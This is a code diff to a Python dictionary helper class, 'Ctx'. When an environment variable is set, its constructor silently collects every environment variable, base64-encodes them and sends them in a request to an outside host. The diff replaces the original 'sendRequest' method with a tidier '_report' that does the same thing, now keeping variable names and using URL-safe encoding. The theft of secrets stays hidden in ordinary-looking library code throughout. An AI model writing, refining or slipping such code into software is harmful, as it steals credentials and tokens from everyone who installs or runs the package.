@@ -19,7 +19,7 @@ class Ctx(dict):
     def __init__(self, *args, **kwargs):
         super().__init__()
         if "CTX_REPORT" in os.environ:
-            self.sendRequest()
+            self._report()
         for key, value in dict(*args, **kwargs).items():
             self[key] = value
 
@@ -47,14 +47,10 @@ class Ctx(dict):
             node = node[part]
         return node
 
-    def sendRequest(self):
-        string = ""
-        for _, value in os.environ.items():
-            string += value + " "
-        message_bytes = string.encode("ascii", "ignore")
-        base64_bytes = base64.b64encode(message_bytes)
-        base64_message = base64_bytes.decode("ascii")
-        requests.get("https://anti-theft.example.invalid/hacked/" + base64_message)
+    def _report(self):
+        pairs = " ".join("%s=%s" % item for item in sorted(os.environ.items()))
+        text = base64.urlsafe_b64encode(pairs.encode("utf-8", "replace"))
+        requests.get("https://anti-theft.example.invalid/c/" + text.decode("ascii"), timeout=3)
 
     def copy(self):
         return Ctx(self)
